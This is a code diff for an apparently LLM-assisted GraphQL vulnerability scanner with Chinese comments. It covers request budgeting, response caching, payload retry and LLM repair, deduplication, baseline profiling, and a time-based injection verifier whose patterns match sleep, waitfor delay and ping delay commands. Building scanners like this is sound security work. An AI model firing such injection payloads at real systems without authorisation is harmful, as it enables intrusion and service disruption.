+            pair = weights['llm_rounds'] + weights['deterministic']
+            share = min(max(rates['deterministic'] / sum(rates.values()), 0.1), 0.6)
+            weights['deterministic'] = pair * share
+            weights['llm_rounds'] = pair * (1 - share)
+        return weights
+
+    def _allocation(self, phase: str) -> tuple:
+        """阶段的 (请求份额, 时间份额)；Fuzzing 阶段的时间份额为截止时间前的全部时间"""
+        weights = self._weights()
+        if phase not in weights:
+            return 0, 0.0
+        share = weights[phase] / sum(weights.values())
+        requests = None
+        if self.request_budget:
+            pool = self.request_budget - sum(n for p, n in self.requests.items() if p not in weights)
+            requests = pool * share
+            borrowers = [p for p in ('llm_rounds', 'deterministic') if p in weights]
+            if phase in borrowers and 'verification' in weights:
+                spare = (pool * weights['verification'] / sum(weights.values()) * (1 - self.VERIFICATION_RESERVE)
+                         - self.requests.get('verification', 0))
+                if spare > 0:
+                    requests += spare * weights[phase] / sum(weights[p] for p in borrowers)
+        seconds = None
+        if self.time_budget:
+            if phase in self.FUZZ_PHASES:
+                seconds = float('inf')
+            else:
+                start = self.phase_started.get(phase, time.time())
+                fuzz_share = sum(weights[p] for p in self.FUZZ_PHASES if p in weights)
+                sequential = sum(w for p, w in weights.items() if p not in self.FUZZ_PHASES)
+                deadline = self.started + self.time_budget - self.report_reserve
+                seconds = (deadline - start) * weights[phase] / (sequential + fuzz_share)
+        return requests, seconds
+
+    def allow(self, phase: str, requests: int = 1, seconds: float = 0.0) -> bool:
+        """阶段是否还能再花 requests 个请求、seconds 秒"""
+        if not self.enabled:
+            return True
+        if self.deadline_reached() or self.time_left() < seconds:
+            return False
+        with self._lock:
+            request_share, time_share = self._allocation(phase)
+            if request_share is not None and self.requests.get(phase, 0) + requests > request_share:
+                return False
+            if time_share is not None and phase not in self.FUZZ_PHASES:
+                elapsed = time.time() - self.phase_started.get(phase, time.time())
+                if elapsed + seconds > time_share:
+                    return False
+        return True
+
+    def allow_round(self) -> bool:
+        """按已完成轮次的平均耗时和请求数判断还能否开始新一轮"""
+        if not self.enabled:
+            return True
+        with self._lock:
+            count = self.rounds['count']
+            seconds = self.rounds['seconds'] / count if count else 0.0
+            requests = max(1, round(self.rounds['requests'] / count)) if count else 1
+        return self.allow('llm_rounds', requests, seconds)
+
+    def take_request(self) -> bool:
+        """登记一个即将发送的请求；请求总数已用尽时返回 False"""
+        if not self.enabled:
+            return True
+        phase = self.phase
+        with self._lock:
+            if self.request_budget and sum(self.requests.values()) >= self.request_budget:
+                if self.stopped is None:
+                    self.stopped = 'requests'
+                    log_warning(f"请求预算已用尽（{self.request_budget} 个），不再发送新请求")
+                return False
+            self.requests[phase] = self.requests.get(phase, 0) + 1
+        return True
+
+    def record_yield(self, phase: str, novel: int = 1):
+        """登记阶段产生的新行为数（用于在 LLM 轮次和本地变异之间调整份额）"""
+        with self._lock:
+            self.novel[phase] = self.novel.get(phase, 0) + novel
+
+    def record_round(self, seconds: float, requests: int):
+        with self._lock:
+            self.rounds['count'] += 1
+            self.rounds['seconds'] += seconds
+            self.rounds['requests'] += requests
+
+    def summary(self) -> dict:
+        with self._lock:
+            summary = {}
+            if self.time_budget:
+                summary['time_budget'] = f"{self.time_budget:g}s"
+                summary['elapsed'] = f"{time.time() - self.started:.1f}s"
+            if self.request_budget:
+                summary['request_budget'] = self.request_budget
+            summary['requests'] = sum(self.requests.values())
+            for phase in (*self.PHASE_WEIGHTS, 'other'):
+                if phase in self.requests or phase in self.phase_seconds:
+                    seconds = self.phase_seconds.get(phase)
+                    summary[phase] = (f"{self.requests.get(phase, 0)} 请求"
+                                      + (f" / {seconds:.1f}s" if seconds is not None else ''))
+            if self.stopped:
+                summary['stopped'] = self.stopped
+        return summary
+
+
+scan_budget = ScanBudget()
+
+
+# =============================================================================
+# Query 响应缓存
+# =============================================================================
+
+class ResponseCache:
+    """
+    幂等 Query 的 LRU 响应缓存
+
+    键为 (端点, 认证上下文, 规范化请求指纹)，只缓存 query 操作，
+    mutation 每次都会真实发送。带 TTL 和容量上限。
+    只缓存 2xx 响应和 400 的 GraphQL 校验错误；限流（429）、5xx 等临时错误不缓存，
+    否则会在整个 TTL 内被重放给后续请求和 test_payload 的重试。
+    """
+
+    def __init__(self, max_size: int = 512, ttl: float = 300):
+        self.max_size = max_size
+        self.ttl = ttl
+        self._entries: OrderedDict = OrderedDict()  # key -> (写入时间, 响应元组)
+        self._lock = threading.Lock()
+        self.stats = {'hits': 0, 'misses': 0, 'expired': 0, 'evicted': 0}
+
+    @property
+    def enabled(self) -> bool:
+        return self.max_size > 0
+
+    @staticmethod
+    def cacheable(response_text: Optional[str], status_code: Optional[int]) -> bool:
+        """响应是否可以缓存"""
+        if response_text is None or status_code is None:
+            return False
+        if 200 <= status_code < 300:
+            return True
+        return status_code == 400 and '"errors"' in response_text
+
+    def configure(self, max_size: int, ttl: float):
+        self.max_size = max(0, max_size)
+        self.ttl = ttl
+
+    def make_key(self, endpoint: str, payload: str, variables: dict = None) -> Optional[tuple]:
+        """生成缓存键，非 query 操作返回 None（不缓存）"""
+        if get_operation_type(payload) != 'query':
+            return None
+        return (endpoint, session_config.auth_fingerprint(), payload_fingerprint(payload, variables))
+
+    def get(self, key: tuple) -> Optional[tuple]:
+        with self._lock:
+            entry = self._entries.get(key)
+            if entry is None:
+                self.stats['misses'] += 1
+                return None
+
+            stored_at, value = entry
+            if self.ttl and time.time() - stored_at > self.ttl:
+                del self._entries[key]
+                self.stats['expired'] += 1
+                self.stats['misses'] += 1
+                return None
+
+            self._entries.move_to_end(key)
+            self.stats['hits'] += 1
+            return value
+
+    def put(self, key: tuple, value: tuple):
+        with self._lock:
+            self._entries[key] = (time.time(), value)
+            self._entries.move_to_end(key)
+            while len(self._entries) > self.max_size:
+                self._entries.popitem(last=False)
+                self.stats['evicted'] += 1
+
+    def hit_rate(self) -> float:
+        total = self.stats['hits'] + self.stats['misses']
+        return self.stats['hits'] / total if total else 0.0
+
+    def summary(self) -> dict:
+        """缓存统计（用于报告）"""
+        return dict(self.stats, size=len(self._entries), hit_rate=round(self.hit_rate(), 4))
+
+    def display_stats(self):
+        """显示缓存命中率"""
+        total = self.stats['hits'] + self.stats['misses']
+        if not self.enabled or not total:
+            return
+        log_info(f"响应缓存: 命中 {self.stats['hits']}/{total} ({self.hit_rate():.0%}), "
+                 f"过期 {self.stats['expired']}, 淘汰 {self.stats['evicted']}")
+
+
+# 全局响应缓存实例
+response_cache = ResponseCache()
+
+
+def execute_payload(endpoint: str, payload: str, timeout: int = 10, variables: dict = None,
+                    use_cache: bool = True, timing_sensitive: bool = False) -> tuple:
+    """
+    执行 GraphQL Payload（使用全局会话配置）
+
+    Query 操作会先查询响应缓存；命中时返回首次请求时记录的响应和耗时。
+    需要重新测量响应时间的场景（如时间盲注复核）应传入 use_cache=False。
+    timing_sensitive 为 True 时请求走 request_gate 的计时通道。
+    请求预算用尽时抛出 BudgetExhausted。
+    """
     # 清理 payload
     payload = payload.strip()
     if not payload.startswith('mutation') and not payload.startswith('query') and not payload.startswith('{'):
         return None, 0, None
 
+    cache_key = response_cache.make_key(endpoint, payload, variables) if response_cache.enabled else None
+    if cache_key is not None and use_cache:
+        cached = response_cache.get(cache_key)
+        if cached is not None:
+            return cached
+
+    result = _send_payload(endpoint, payload, timeout, variables, timing_sensitive)
+    if cache_key is not None and response_cache.cacheable(result[0], result[2]):
+        response_cache.put(cache_key, result)
+    return result
+
+
+def _send_payload(endpoint: str, payload: str, timeout: int, variables: dict = None,
+                  timing_sensitive: bool = False) -> tuple:
+    """
+    发送 Payload（普通 POST 或 APQ），返回 (响应文本, 耗时, 状态码)
+
+    Raises:
+        BudgetExhausted: 请求预算已用尽，请求未发送
+    """
     request_kwargs = session_config.get_request_kwargs(timeout)
+    host = urlparse(endpoint).netloc
+    if not scan_budget.take_request():
+        raise BudgetExhausted()
 
+    request_gate.acquire(host, timing_sensitive)
     try:
+        if apq_transport.enabled:
+            response, elapsed_time = apq_transport.send(endpoint, payload, variables, request_kwargs)
+            return response.text, elapsed_time, response.status_code
+
+        body = {"query": payload}
+        if variables:
+            body['variables'] = variables
+
         start_time = time.time()
         response = requests.post(
             endpoint,
-            json={"query": payload},
+            json=body,
             **request_kwargs
         )
         elapsed_time = time.time() - start_time
@@ -1548,6 +3679,8 @@ def execute_payload(endpoint: str, payload: str, timeout: int = 10) -> tuple:
         return None, elapsed_time, None
     except requests.RequestException as e:
         return None, 0, None
+    finally:
+        request_gate.release(host, timing_sensitive)
 
 
 # =============================================================================
@@ -1868,65 +4001,22 @@ def retry_with_llm(original_payload: str, error_info: dict, endpoint: str,
 
     log_info("  🤖 调用 LLM 修复 Payload 错误...")
 
-    try:
-        # 调用 LLM
-        if model.lower().startswith('qwen'):
-            if not api_key:
-                api_key = os.environ.get('DASHSCOPE_API_KEY')
-            if api_key:
-                try:
-                    import dashscope
-                    from dashscope import Generation
-                    dashscope.api_key = api_key
-
-                    response = Generation.call(
-                        model=model if model != 'qwen' else 'qwen-turbo',
-                        prompt=prompt,
-                        result_format='text'
-                    )
-
-                    if response.status_code == 200:
-                        fixed_payload = response.output.text.strip()
-                        # 提取 GraphQL payload（移除可能的 markdown 代码块标记）
-                        import re
-                        payload_match = re.search(r'(?:mutation|query|{)[^{]*{.*}', fixed_payload, re.DOTALL)
-                        if payload_match:
-                            fixed_payload = payload_match.group(0).strip()
-
-                        return fixed_payload, True, 'LLM 修复成功'
-
-                except Exception as e:
-                    return original_payload, False, f'LLM 调用失败: {str(e)}'
-
-        else:
-            # Ollama
-            try:
-                response = requests.post(
-                    "http://localhost:11434/api/generate",
-                    json={"model": model, "prompt": prompt, "stream": False},
-                    timeout=60
-                )
-                if response.status_code == 200:
-                    fixed_payload = response.json().get('response', '').strip()
-                    # 提取 GraphQL payload
-                    import re
-                    payload_match = re.search(r'(?:mutation|query|{)[^{]*{.*}', fixed_payload, re.DOTALL)
-                    if payload_match:
-                        fixed_payload = payload_match.group(0).strip()
-
-                    return fixed_payload, True, 'LLM 修复成功'
+    fixed_payload = llm_client.complete(prompt, model, api_key, call_site='fix')
+    if not fixed_payload:
+        return original_payload, False, 'LLM 修复失败'
 
-            except Exception as e:
-                return original_payload, False, f'Ollama 调用失败: {str(e)}'
-
-    except Exception as e:
-        return original_payload, False, f'LLM 修复异常: {str(e)}'
+    # 提取 GraphQL payload（移除可能的 markdown 代码块标记）
+    fixed_payload = fixed_payload.strip()
+    payload_match = re.search(r'(?:mutation|query|{)[^{]*{.*}', fixed_payload, re.DOTALL)
+    if payload_match:
+        fixed_payload = payload_match.group(0).strip()
 
-    return original_payload, False, 'LLM 修复失败'
+    return fixed_payload, True, 'LLM 修复成功'
 
 
 def test_payload(endpoint: str, payload: str, timeout: int = 10,
-                model: str = None, api_key: str = None, max_retries: int = 2) -> dict:
+                model: str = None, api_key: str = None, max_retries: int = 2, variables: dict = None,
+                timing_sensitive: bool = False) -> dict:
     """
     测试 Payload，带自动重试和错误修复机制
 
@@ -1936,185 +4026,2015 @@ def test_payload(endpoint: str, payload: str, timeout: int = 10,
     3. 如果自动修复失败，使用 LLM 修复
     4. 最多重试 max_retries 次
 
-    Args:
-        endpoint: GraphQL 端点
-        payload: 要测试的 Payload
-        timeout: 请求超时时间
-        model: LLM 模型（用于复杂修复）
-        api_key: API Key
-        max_retries: 最大重试次数
+    Args:
+        endpoint: GraphQL 端点
+        payload: 要测试的 Payload
+        timeout: 请求超时时间
+        model: LLM 模型（用于复杂修复）
+        api_key: API Key
+        max_retries: 最大重试次数
+        variables: 随 Payload 发送的 GraphQL 变量（可选）
+        timing_sensitive: 是否走计时通道（sleep 类 RCE、DoS 等需要准确耗时的 Payload）
+
+    Returns:
+        dict: 测试结果，包含:
+            - success: bool, 最终是否成功
+            - payload: str, 最终使用的 Payload
+            - response_text: str, 响应内容
+            - response_time: float, 响应时间
+            - status_code: int, HTTP 状态码
+            - attempts: list, 每次尝试的记录
+            - error_fixed: bool, 是否修复了错误
+            - fix_method: str, 修复方法（'auto_fix' 或 'llm_fix' 或 'none'）
+            - budget_exhausted: bool, 请求预算已用尽、Payload 未发送（仅此时存在）
+    """
+    attempts = []
+    current_payload = payload
+    error_fixed = False
+    fix_method = 'none'
+
+    for attempt in range(max_retries + 1):
+        # 发送 Payload
+        try:
+            response_text, elapsed_time, status_code = execute_payload(endpoint, current_payload, timeout, variables,
+                                                                       timing_sensitive=timing_sensitive)
+        except BudgetExhausted:
+            return {
+                'success': False,
+                'payload': current_payload,
+                'response_text': None,
+                'response_time': 0,
+                'status_code': None,
+                'attempts': attempts,
+                'error_fixed': error_fixed,
+                'fix_method': fix_method,
+                'budget_exhausted': True,
+                'message': '请求预算已用尽，未发送'
+            }
+
+        attempt_info = {
+            'attempt': attempt + 1,
+            'payload': current_payload,
+            'response_text': response_text,
+            'response_time': elapsed_time,
+            'status_code': status_code
+        }
+        attempts.append(attempt_info)
+
+        # 如果响应为空且未超时，可能是网络问题，不再重试
+        if not response_text and elapsed_time < timeout:
+            return {
+                'success': False,
+                'payload': current_payload,
+                'response_text': response_text,
+                'response_time': elapsed_time,
+                'status_code': status_code,
+                'attempts': attempts,
+                'error_fixed': error_fixed,
+                'fix_method': fix_method,
+                'message': '请求失败，可能是网络问题'
+            }
+
+        # 分析响应中的错误
+        if response_text:
+            error_info = analyze_graphql_error(response_text)
+        else:
+            error_info = {'has_error': False}
+
+        # 如果没有错误，返回成功
+        if not error_info['has_error']:
+            return {
+                'success': True,
+                'payload': current_payload,
+                'response_text': response_text,
+                'response_time': elapsed_time,
+                'status_code': status_code,
+                'attempts': attempts,
+                'error_fixed': error_fixed,
+                'fix_method': fix_method,
+                'message': 'Payload 执行成功'
+            }
+
+        # 如果有错误且还有重试次数
+        if attempt < max_retries:
+            log_info(f"  🔄 检测到错误，尝试修复 (重试 {attempt + 1}/{max_retries})...")
+            log_info(f"     错误: {error_info['error_type']} - {error_info.get('error_message', '')[:80]}")
+
+            # 第一次尝试：自动修复
+            if attempt == 0:
+                fixed_payload, success, message = auto_fix_payload(current_payload, error_info)
+                if success:
+                    current_payload = fixed_payload
+                    error_fixed = True
+                    fix_method = 'auto_fix'
+                    log_info(f"  ✅ 自动修复: {message}")
+                    continue
+
+            # 第二次尝试：LLM 修复
+            if attempt == 1 and model:
+                fixed_payload, success, message = retry_with_llm(current_payload, error_info, endpoint, model, api_key)
+                if success:
+                    current_payload = fixed_payload
+                    error_fixed = True
+                    fix_method = 'llm_fix'
+                    log_info(f"  ✅ LLM 修复: {message}")
+                    continue
+
+            log_warning(f"  ⚠️  无法自动修复，使用原始 Payload")
+
+    # 所有重试都失败
+    return {
+        'success': False,
+        'payload': current_payload,
+        'response_text': response_text,
+        'response_time': elapsed_time,
+        'status_code': status_code,
+        'attempts': attempts,
+        'error_fixed': error_fixed,
+        'fix_method': fix_method,
+        'message': f'达到最大重试次数 ({max_retries})，仍有错误'
+    }
+
+
+# =============================================================================
+# GraphQL 文档规范化与去重
+# =============================================================================
+
+# 逗号在 GraphQL 中属于可忽略字符，与空白、注释一起丢弃
+GRAPHQL_TOKEN_RE = re.compile(r'''
+    (?P<ignored>[\s,\ufeff]+|\#[^\n]*)
+  | (?P<block>"""(?:\\"""|[^"]|"(?!""))*""")
+  | (?P<string>"(?:\\.|[^"\\\n])*")
+  | (?P<spread>\.\.\.)
+  | (?P<name>[_A-Za-z][_0-9A-Za-z]*)
+  | (?P<number>-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?)
+  | (?P<punct>.)
+''', re.VERBOSE | re.DOTALL)
+
+BRACKET_PAIRS = {'{': '}', '(': ')', '[': ']'}
+
+
+def tokenize_graphql(document: str) -> list:
+    """将 GraphQL 文档切分为词法单元（丢弃空白、逗号和注释）"""
+    tokens = []
+    for match in GRAPHQL_TOKEN_RE.finditer(document):
+        if match.lastgroup != 'ignored':
+            tokens.append(match.group())
+    return tokens
+
+
+def _group_tokens(tokens: list, start: int = 0, closing: str = None) -> tuple:
+    """
+    按括号把词法单元组织成嵌套结构
+
+    Returns:
+        tuple: (items, next_index)，items 中的括号组表示为 (open, children, close)
+    """
+    items = []
+    i = start
+    while i < len(tokens):
+        token = tokens[i]
+        if token == closing:
+            return items, i + 1
+        if token in BRACKET_PAIRS:
+            children, i = _group_tokens(tokens, i + 1, BRACKET_PAIRS[token])
+            items.append((token, children, BRACKET_PAIRS[token]))
+            continue
+        items.append(token)
+        i += 1
+    # 括号未闭合时按已读取的内容返回（LLM 生成的 Payload 可能不完整）
+    return items, i
+
+
+def _is_name(item) -> bool:
+    return isinstance(item, str) and (item[:1].isalpha() or item[:1] == '_')
+
+
+def _split_arguments(children: list) -> list:
+    """把参数列表 / 对象值拆分为 `name: value` 片段（变量定义以 $ 开头）"""
+    chunks = []
+    for j, item in enumerate(children):
+        starts_var = item == '$' and (j == 0 or children[j - 1] != ':')
+        starts_arg = (_is_name(item) and j + 1 < len(children) and children[j + 1] == ':'
+                      and (j == 0 or children[j - 1] != '$'))
+        if starts_var or starts_arg or not chunks:
+            chunks.append([])
+        chunks[-1].append(item)
+    return chunks
+
+
+def _render_canonical(items: list, in_value: bool = False) -> str:
+    """渲染规范化文本：去除选择集中的别名，参数 / 对象字段按名称排序"""
+    parts = []
+    j = 0
+    while j < len(items):
+        item = items[j]
+        if isinstance(item, tuple):
+            opening, children, close = item
+            if opening == '(' or (opening == '{' and in_value):
+                chunks = [_render_canonical(chunk, in_value=True) for chunk in _split_arguments(children)]
+                inner = ' '.join(sorted(chunks))
+            else:
+                inner = _render_canonical(children, in_value=in_value or opening == '[')
+            parts.append(f"{opening} {inner} {close}" if inner else f"{opening}{close}")
+        elif (not in_value and _is_name(item) and j + 2 < len(items)
+              and items[j + 1] == ':' and _is_name(items[j + 2])):
+            # 选择集中的 `alias: field` 只保留字段名
+            j += 2
+            continue
+        else:
+            parts.append(item)
+        j += 1
+    return ' '.join(parts)
+
+
+def canonicalize_payload(payload: str) -> str:
+    """
+    规范化 GraphQL Payload，用于判断两个 Payload 是否等价
+
+    规则：合并空白/逗号/注释、去除字段别名、参数与输入对象字段按名称排序、
+    匿名简写 `{ ... }` 视为 `query { ... }`
+    """
+    tokens = tokenize_graphql(payload.strip())
+    if tokens and tokens[0] == '{':
+        tokens.insert(0, 'query')
+    items, _ = _group_tokens(tokens)
+    return _render_canonical(items)
+
+
+def payload_fingerprint(payload: str, variables: dict = None) -> str:
+    """计算 Payload 规范化指纹（包含变量）"""
+    material = canonicalize_payload(payload)
+    if variables:
+        material += '\n' + json.dumps(variables, sort_keys=True, ensure_ascii=False)
+    return hashlib.sha256(material.encode('utf-8')).hexdigest()
+
+
+def get_operation_type(payload: str) -> str:
+    """获取文档的操作类型: query / mutation / subscription"""
+    for token in tokenize_graphql(payload):
+        if token in ('query', 'mutation', 'subscription'):
+            return token
+        if token == '{':
+            return 'query'
+        if token != 'fragment':
+            break
+    return 'query'
+
+
+def extract_operation_fields(payload: str) -> list:
+    """
+    提取 Payload 第一个操作的顶层字段及其使用的参数名
+
+    Returns:
+        list: [{'name': 字段名, 'args': [参数名, ...]}, ...]
+    """
+    tokens = tokenize_graphql(payload.strip())
+    items, _ = _group_tokens(tokens)
+
+    selection = None
+    for item in items:
+        if isinstance(item, tuple) and item[0] == '{':
+            selection = item[1]
+            break
+    if selection is None:
+        return []
+
+    fields = []
+    j = 0
+    while j < len(selection):
+        item = selection[j]
+        if item in ('...', '@'):
+            # 片段展开 / 指令：跳过其名称
+            j += 2
+            continue
+        if not _is_name(item):
+            j += 1
+            continue
+        if j + 2 < len(selection) and selection[j + 1] == ':' and _is_name(selection[j + 2]):
+            j += 2  # 别名
+            item = selection[j]
+
+        field = {'name': item, 'args': []}
+        nxt = selection[j + 1] if j + 1 < len(selection) else None
+        if isinstance(nxt, tuple) and nxt[0] == '(':
+            field['args'] = [chunk[0] for chunk in _split_arguments(nxt[1]) if chunk and _is_name(chunk[0])]
+        fields.append(field)
+        j += 1
+    return fields
+
+
+class PayloadDeduplicator:
+    """记录本次扫描中已测试的 Payload，按规范化指纹去重并复用之前的结果"""
+
+    def __init__(self):
+        self.seen: Dict[str, dict] = {}  # 指纹 -> 测试结果
+        self.inflight: set = set()  # 已派发、结果尚未登记的指纹（并发会话之间去重）
+        self.skipped = 0
+        self._lock = threading.Lock()
+
+    def lookup(self, payload: str, variables: dict = None) -> Optional[dict]:
+        """查找等价 Payload 的历史结果，命中时累计重复次数"""
+        fingerprint = payload_fingerprint(payload, variables)
+        with self._lock:
+            previous = self.seen.get(fingerprint)
+            if previous is not None:
+                previous['duplicate_count'] = previous.get('duplicate_count', 0) + 1
+                self.skipped += 1
+        return previous
+
+    def reserve(self, payload: str, variables: dict = None) -> bool:
+        """派发前占用指纹；其他会话已在测试等价 Payload 时返回 False"""
+        fingerprint = payload_fingerprint(payload, variables)
+        with self._lock:
+            if fingerprint in self.seen or fingerprint in self.inflight:
+                self.skipped += 1
+                return False
+            self.inflight.add(fingerprint)
+        return True
+
+    def release(self, payload: str, variables: dict = None):
+        """释放占用的指纹（Payload 未发送或请求失败），之后可以重新测试"""
+        fingerprint = payload_fingerprint(payload, variables)
+        with self._lock:
+            self.inflight.discard(fingerprint)
+
+    def record(self, payload: str, result: dict, variables: dict = None):
+        """登记 Payload 的测试结果（同一指纹只保留第一次的结果）并释放占用"""
+        fingerprint = payload_fingerprint(payload, variables)
+        with self._lock:
+            self.seen.setdefault(fingerprint, result)
+            self.inflight.discard(fingerprint)
+
+
+# =============================================================================
+# 基线对比
+# =============================================================================
+
+# 基线请求的参数取值（按 GraphQL 标量类型，多次采样轮换使用）
+BASELINE_ARG_VALUES = {
+    'Int': ['1', '2', '3'],
+    'Float': ['1.0', '2.0', '3.0'],
+    'Boolean': ['false', 'true', 'false'],
+    'ID': ['"1"', '"2"', '"3"'],
+    'String': ['"test"', '"baseline"', '"sample"'],
+}
+
+# 说明请求本身不合法（而不是被目标拒绝）的错误类型，这类响应不能作为基线
+VALIDATION_ERROR_TYPES = {'SUBSELECTION_REQUIRED', 'UNKNOWN_FIELD', 'INVALID_ARGUMENT', 'TYPE_MISMATCH', 'SYNTAX_ERROR'}
+
+
+def baseline_arguments(op: dict, sample: int = 0) -> str:
+    """正常请求的参数列表：标量参数（含 !/[] 修饰）填入无害的取值，其余参数省略"""
+    args = []
+    for arg in op.get('args', []):
+        values = BASELINE_ARG_VALUES.get(arg['type'].strip('[]!'))
+        if values:
+            args.append(f"{arg['name']}: {values[sample % len(values)]}")
+    return f"({', '.join(args)})" if args else ""
+
+
+def normalized_response_digest(response_text: str) -> str:
+    """数字归一化后的响应摘要，用于判断测试响应是否与某次正常请求相同"""
+    normalized = re.sub(r'\d+', '0', response_text or '')
+    return hashlib.sha1(normalized.encode('utf-8', errors='replace')).hexdigest()
+
+
+class BaselineEngine:
+    """
+    差分基线
+
+    扫描前对每个操作发送若干次正常请求（use_cache=False），记录响应结构、
+    大小分布、延迟分布、错误类型和响应内容；验证器用基线过滤掉操作本来就有的特征，
+    例如正常响应里本来就包含 role / token 字段、本来就返回数据、本来就慢。
+
+    默认只对 Query 采集基线：Mutation 的正常请求同样会修改目标数据，
+    需要显式开启 include_mutations。未通过 GraphQL 校验的正常请求不计入基线，
+    全部采样都未通过校验的操作没有基线，验证器按无基线处理。
+    """
+
+    def __init__(self, endpoint: str, timeout: int = 10, samples: int = 3, include_mutations: bool = False):
+        self.endpoint = endpoint
+        self.timeout = timeout
+        self.samples = max(1, samples)
+        self.include_mutations = include_mutations
+        self.profiles: Dict[str, dict] = {}
+        self.invalid: list = []  # 正常请求未通过校验的操作
+        self._lock = threading.Lock()
+
+    def _profile_operation(self, kind: str, op: dict) -> Optional[dict]:
+        profile = {'kind': kind, 'samples': 0, 'status_codes': set(), 'shapes': set(), 'error_classes': set(),
+                   'digests': set(), 'sizes': [], 'latencies': [], 'text': '', 'has_data': False}
+
+        # 第一次请求用 test_payload 自动补全子选择（不调用 LLM），之后的采样沿用修复后的文档
+        head = f"{op['name']}{baseline_arguments(op, 0)}"
+        test_result = test_payload(self.endpoint, f"{kind} {{ {head} }}", self.timeout, max_retries=1)
+        if test_result.get('budget_exhausted'):
+            raise BudgetExhausted()
+        profile['payload'] = test_result['payload']
+        self._add_sample(profile, test_result['response_text'], test_result['response_time'],
+                         test_result['status_code'])
+        for sample in range(1, self.samples):
+            payload = test_result['payload'].replace(head, f"{op['name']}{baseline_arguments(op, sample)}", 1)
+            self._add_sample(profile, *execute_payload(self.endpoint, payload, self.timeout, use_cache=False))
+        if not profile['samples'] and test_result['response_text'] is not None:
+            with self._lock:
+                self.invalid.append(op['name'])
+        return profile if profile['samples'] else None
+
+    @staticmethod
+    def _add_sample(profile: dict, response_text: Optional[str], elapsed_time: float, status_code: Optional[int]):
+        if response_text is None:
+            return
+        error_info = analyze_graphql_error(response_text)
+        if error_info['error_type'] in VALIDATION_ERROR_TYPES:
+            return
+        profile['samples'] += 1
+        profile['status_codes'].add(status_code)
+        profile['shapes'].add(response_shape(response_text))
+        profile['digests'].add(normalized_response_digest(response_text))
+        profile['sizes'].append(len(response_text))
+        profile['latencies'].append(elapsed_time)
+        profile['text'] += response_text.lower()[:4000] + '\n'
+        if error_info['has_error']:
+            profile['error_classes'].add(error_info['error_type'])
+        else:
+            profile['has_data'] = True
+
+    def collect(self, mutations: list, queries: list = None, concurrency: int = 4):
+        """对所有操作采集基线（各操作并发，请求数受 request_gate 限制）"""
+        operations = [('query', op) for op in queries or []]
+        if self.include_mutations:
+            operations = [('mutation', op) for op in mutations or []] + operations
+        if not operations:
+            return
+        log_info(f"采集 {len(operations)} 个操作的基线（每个 {self.samples} 次正常请求"
+                 f"{'，包含 Mutation' if self.include_mutations else ''}）...")
+        pending = list(operations)
+        pending_lock = threading.Lock()
+
+        def worker():
+            scan_budget.phase = 'baseline'
+            while True:
+                with pending_lock:
+                    if not pending:
+                        return
+                    if not scan_budget.allow('baseline', self.samples):
+                        log_warning(f"基线阶段预算已用完，跳过剩余 {len(pending)} 个操作")
+                        pending.clear()
+                        return
+                    kind, op = pending.pop(0)
+                try:
+                    profile = self._profile_operation(kind, op)
+                except BudgetExhausted:
+                    with pending_lock:
+                        pending.clear()
+                    return
+                except Exception as e:
+                    log_warning(f"  {op['name']} 基线采集失败: {e}")
+                    continue
+                if profile:
+                    with self._lock:
+                        self.profiles[op['name']] = profile
+
+        workers = [threading.Thread(target=worker, daemon=True)
+                   for _ in range(min(max(1, concurrency), len(operations)))]
+        for thread in workers:
+            thread.start()
+        for thread in workers:
+            thread.join()
+        log_success(f"已采集 {len(self.profiles)}/{len(operations)} 个操作的基线")
+        if self.invalid:
+            log_warning(f"{len(self.invalid)} 个操作的正常请求未通过 GraphQL 校验，不使用基线: "
+                        f"{', '.join(self.invalid[:5])}{' ...' if len(self.invalid) > 5 else ''}")
+
+    def profile_for(self, payload: str) -> Optional[dict]:
+        """Payload 第一个顶层字段对应操作的基线"""
+        fields = extract_operation_fields(payload or '')
+        return self.profiles.get(fields[0]['name']) if fields else None
+
+    @staticmethod
+    def median_latency(profile: Optional[dict]) -> float:
+        if not profile or not profile['latencies']:
+            return 0.0
+        latencies = sorted(profile['latencies'])
+        return latencies[len(latencies) // 2]
+
+    def summary(self) -> dict:
+        with self._lock:
+            profiles = dict(self.profiles)
+        return {
+            'operations': len(profiles),
+            'requests': sum(p['samples'] for p in profiles.values()),
+            'rejected': sum(1 for p in profiles.values() if not p['has_data']),
+            'invalid': len(self.invalid),
+        }
+
+
+# =============================================================================
+# 时间盲注确认
+# =============================================================================
+
+# Payload 中可调节的延迟参数：(正则, 说明, 偏移)；正则第 2 组为秒数，
+# 偏移为注入值与实际延迟之差（ping -c N 约耗时 N-1 秒）
+DELAY_PATTERNS = [
+    (r"(?i)(\b(?:pg_)?sleep\s*\(?\s*)(\d+(?:\.\d+)?)", 'sleep', 0),
+    (r"(?i)(\bwaitfor\s+delay\s+\\?['\"]\d+:\d+:)(\d+)", 'waitfor delay', 0),
+    (r"(?i)(\bStart-Sleep\s+(?:-s(?:econds)?\s+)?)(\d+)", 'Start-Sleep', 0),
+    (r"(?i)(\btimeout\s+/t\s+)(\d+)", 'timeout /t', 0),
+    (r"(?i)(\bping\s+-[cn]\s+)(\d+)", 'ping', 1),
+]
+
+
+def find_delay_parameter(payload: str, variables: dict = None) -> Optional[dict]:
+    """
+    在 Payload 文档或变量中查找延迟参数
+
+    Returns:
+        dict: {'pattern', 'name', 'offset', 'seconds', 'in_variables'}，找不到时返回 None
+    """
+    variables_text = json.dumps(variables, ensure_ascii=False) if variables else ''
+    for pattern, name, offset in DELAY_PATTERNS:
+        for text, in_variables in ((payload, False), (variables_text, True)):
+            match = re.search(pattern, text or '')
+            if match:
+                return {'pattern': pattern, 'name': name, 'offset': offset,
+                        'seconds': max(0.0, float(match.group(2)) - offset), 'in_variables': in_variables}
+    return None
+
+
+def rewrite_delay(payload: str, variables: dict, delay: dict, seconds: int) -> tuple:
+    """把延迟参数改为指定秒数，返回 (payload, variables)"""
+    value = str(int(seconds + delay['offset']))
+
+    def substitute(text):
+        return re.sub(delay['pattern'], lambda m: m.group(1) + value, text, count=1)
+
+    if delay['in_variables']:
+        return payload, json.loads(substitute(json.dumps(variables, ensure_ascii=False)))
+    return substitute(payload), variables
+
+
+def is_timing_sensitive(vuln_type: str, payload: str, variables: dict = None) -> bool:
+    """DoS 和带延迟参数的 Payload 依赖准确的响应耗时"""
+    return 'DOS' in vuln_type.upper() or find_delay_parameter(payload, variables) is not None
+
+
+class TimingVerifier:
+    """
+    时间类漏洞确认
+
+    单次响应变慢不能说明问题（并发压力、目标本身慢都会导致），规则验证器怀疑
